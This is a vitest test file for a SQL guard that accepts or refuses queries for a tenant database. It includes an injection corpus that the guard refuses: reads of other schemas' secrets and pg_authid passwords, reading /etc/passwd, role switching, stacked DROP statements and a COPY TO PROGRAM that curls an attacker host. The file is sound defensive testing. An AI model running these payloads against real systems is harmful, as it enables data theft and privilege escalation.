import { beforeAll, describe, expect, test } from 'vitest';
import { checkQuery } from './check-query.js';
import { isSqlRefusal } from './errors.js';
import { loadSqlParser } from './parse.js';

const rules = { schema: 'memdb_1_dev', tables: new Set(['orders', 'customers']), maxChars: 10_000 };

function refusal(sql: string, extra: Partial<typeof rules> & { readOnly?: boolean } = {}): string {
  try {
    checkQuery(sql, { ...rules, ...extra });
  } catch (error) {
    if (isSqlRefusal(error)) return error.code;
    throw error;
  }
  return 'accepted';
}

beforeAll(loadSqlParser);

describe('statements the SQL API accepts', () => {
  test.each([
    'select * from orders',
    'SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > $1 ORDER BY o.id DESC LIMIT 10',
    "select count(*), sum(total), date_trunc('day', created_at) from orders group by 3 having count(*) > 1",
    "with recent as (select * from orders where created_at > now() - interval '7 days') select * from recent",
    'insert into orders (total) values (1.5), (2) returning id',
    'update orders set total = total * 2 where id = $1',
    'delete from orders where id in (select id from orders where total < 0)',
    'select * from memdb_1_dev.orders',
    "select extract(year from created_at), substring(note from 1 for 3), trim(note), coalesce(note, ''), note ilike '%a%' from orders",
    'insert into orders (id, total) values (1, 2) on conflict (id) do update set total = excluded.total',
    'select row_number() over (partition by customer_id order by total desc) from orders',
    "select $$; drop table orders; $$ as text",
    'select 1 /* ; drop table orders */',
    "select 'a'';drop table orders;--'",
    'select * from orders;',
    'values (1, 2)',
    'select current_date, current_timestamp, now()',
    "select jsonb_build_object('a', 1)->>'a', '{1,2}'::int[]",
    'select',
  ])('%s', (sql) => {
    expect(refusal(sql)).toBe('accepted');
  });

  test('what the executor needs: kind, text without the semicolon, RETURNING, parameters, tables', () => {
    expect(checkQuery('select * from orders where id = $2 and total > $1;  ', rules)).toEqual({ kind: 'select', text: 'select * from orders where id = $2 and total > $1', returning: false, parameterCount: 2, tables: ['orders'] });
    expect(checkQuery('insert into orders (total) values (1) returning id', rules)).toMatchObject({ kind: 'insert', returning: true, target: 'orders' });
  });
});

describe('the injection and escape corpus: each refused before it reaches the database, naming why', () => {
  test.each([
    ['select * from memdb_2_dev.secrets', 'sql_schema_not_allowed'],
    ['select * from "memdb_2_dev"."secrets"', 'sql_schema_not_allowed'],
    ['select * from secrets', 'sql_unknown_table'],
    ['select * from memdb_1_dev.secrets', 'sql_unknown_table'],
    ['select * from orders o join memdb_2_dev.secrets s on true', 'sql_schema_not_allowed'],
    ['select (select count(*) from memdb_2_dev.secrets)', 'sql_schema_not_allowed'],
    ['update orders set total = (select max(x) from memdb_2_dev.secrets)', 'sql_schema_not_allowed'],
    ['insert into memdb_2_dev.secrets values (1)', 'sql_schema_not_allowed'],
    ['delete from orders using pg_catalog.pg_class', 'sql_schema_not_allowed'],
    ['select * from pg_catalog.pg_authid', 'sql_schema_not_allowed'],
    ['table pg_catalog.pg_authid', 'sql_schema_not_allowed'],
    ['select * from pg_shadow', 'sql_unknown_table'],
    ['select * from pg_authid', 'sql_unknown_table'],
    ['select * from U&"pg\\005fauthid"', 'sql_unknown_table'],
    ['values ((select rolpassword from pg_authid))', 'sql_unknown_table'],
    ['select * from information_schema.tables', 'sql_schema_not_allowed'],
    ['select 1 = any(array(select oid from pg_catalog.pg_roles))', 'sql_schema_not_allowed'],
    ['select * from mydb.memdb_1_dev.orders', 'sql_schema_not_allowed'],
    ["select pg_read_file('/etc/passwd')", 'sql_function_not_allowed'],
    ["select pg_catalog.pg_read_file('/etc/passwd')", 'sql_function_not_allowed'],
    ["select * from pg_ls_dir('.')", 'sql_function_not_allowed'],
    ["select * from orders, lateral pg_ls_dir('.') as f", 'sql_function_not_allowed'],
    ["select lo_import('/etc/passwd')", 'sql_function_not_allowed'],
    ["select lo_export(1, '/tmp/x')", 'sql_function_not_allowed'],
    ["select dblink('host=10.0.0.1', 'select 1')", 'sql_function_not_allowed'],
    ["select set_config('role', 'postgres', true)", 'sql_function_not_allowed'],
    ["select current_setting('astron.uid')", 'sql_function_not_allowed'],
    ['select pg_sleep(10)', 'sql_function_not_allowed'],
    ["select query_to_xml('select * from pg_authid', true, true, '')", 'sql_function_not_allowed'],
    ['select pg_terminate_backend(1)', 'sql_function_not_allowed'],
    ['select version()', 'sql_function_not_allowed'],
    ['select * from generate_series(1, 1000000000)', 'sql_function_not_allowed'],
    ['select public.f()', 'sql_function_not_allowed'],
    ['select current_user', 'sql_function_not_allowed'],
    ['select session_user', 'sql_function_not_allowed'],
    ['select 1; drop table orders', 'sql_multiple_statements'],
    ['select 1; select 2', 'sql_multiple_statements'],
    ['select 1 -- hidden\n; drop table orders', 'sql_multiple_statements'],
    ['select 1 /* a */; /* b */ delete from orders', 'sql_multiple_statements'],
    ['drop table orders', 'sql_statement_not_allowed'],
    ['truncate orders', 'sql_statement_not_allowed'],
    ['create table x (a int)', 'sql_statement_not_allowed'],
    ["copy orders to program 'curl http://evil'", 'sql_statement_not_allowed'],
    ["copy (select 1) to '/tmp/x'", 'sql_statement_not_allowed'],
    ['do $$ begin perform pg_sleep(1); end $$', 'sql_statement_not_allowed'],
    ['set role postgres', 'sql_statement_not_allowed'],
    ['reset role', 'sql_statement_not_allowed'],
    ['set local statement_timeout = 0', 'sql_statement_not_allowed'],
    ["set astron.uid = 'someone_else'", 'sql_statement_not_allowed'],
    ['begin', 'sql_statement_not_allowed'],
    ['commit', 'sql_statement_not_allowed'],
    ['rollback', 'sql_statement_not_allowed'],
    ['explain analyze select * from orders', 'sql_statement_not_allowed'],
    ['prepare p as select 1', 'sql_statement_not_allowed'],
    ['lock table orders', 'sql_statement_not_allowed'],
    ["notify ch, 'x'", 'sql_statement_not_allowed'],
    ['call p()', 'sql_statement_not_allowed'],
    ['with x as (delete from memdb_2_dev.secrets returning *) select * from x', 'sql_writable_cte'],
    ['with x as (insert into orders (total) values (1) returning *) select * from x', 'sql_writable_cte'],
    ['select * into stolen from orders', 'sql_construct_not_allowed'],
    ['select * from orders for update', 'sql_construct_not_allowed'],
    ["select 'pg_authid'::regclass", 'sql_type_not_allowed'],
    ['select 1 operator(public.+) 1', 'sql_construct_not_allowed'],
    ['select * from orders tablesample system (10)', 'sql_construct_not_allowed'],
    ['select xmlelement(name a)', 'sql_construct_not_allowed'],
    ['', 'sql_empty'],
    ['  ;  ', 'sql_empty'],
    ['-- only a comment', 'sql_empty'],
    ['selec * from orders', 'sql_syntax_error'],
    ["select 'unterminated", 'sql_syntax_error'],
  ])('%s → %s', (sql, code) => {
    expect(refusal(sql)).toBe(code);
  });

  test('a read-only call takes SELECT only', () => {
    expect(refusal('delete from orders', { readOnly: true })).toBe('sql_read_only');
    expect(refusal('select * from orders', { readOnly: true })).toBe('accepted');
  });

  test('messages name the offending part, so the author (or the model) can correct it', () => {
    expect(() => checkQuery('select * from memdb_2_dev.secrets', rules)).toThrow(/memdb_2_dev\.secrets is outside this database/);
    expect(() => checkQuery('select * from secrets', rules)).toThrow(/secrets is not a table of this database; its tables are customers, orders/);
    expect(() => checkQuery("select pg_read_file('x')", rules)).toThrow(/function pg_read_file is not allowed/);
    expect(() => checkQuery('select 1; drop table orders', rules)).toThrow(/one statement per call: found 2 \(SELECT, DROP\)/);
    expect(() => checkQuery('copy orders to stdout', rules)).toThrow(/COPY is not allowed: only SELECT, INSERT, UPDATE and DELETE/);
    expect(() => checkQuery('selec 1', rules)).toThrow(/syntax error.*at character 1/);
  });

  test('an over-long text is refused before it is parsed', () => {
    expect(refusal(`select ${'1 + '.repeat(100)}1`, { maxChars: 50 })).toBe('sql_too_long');
  });
});
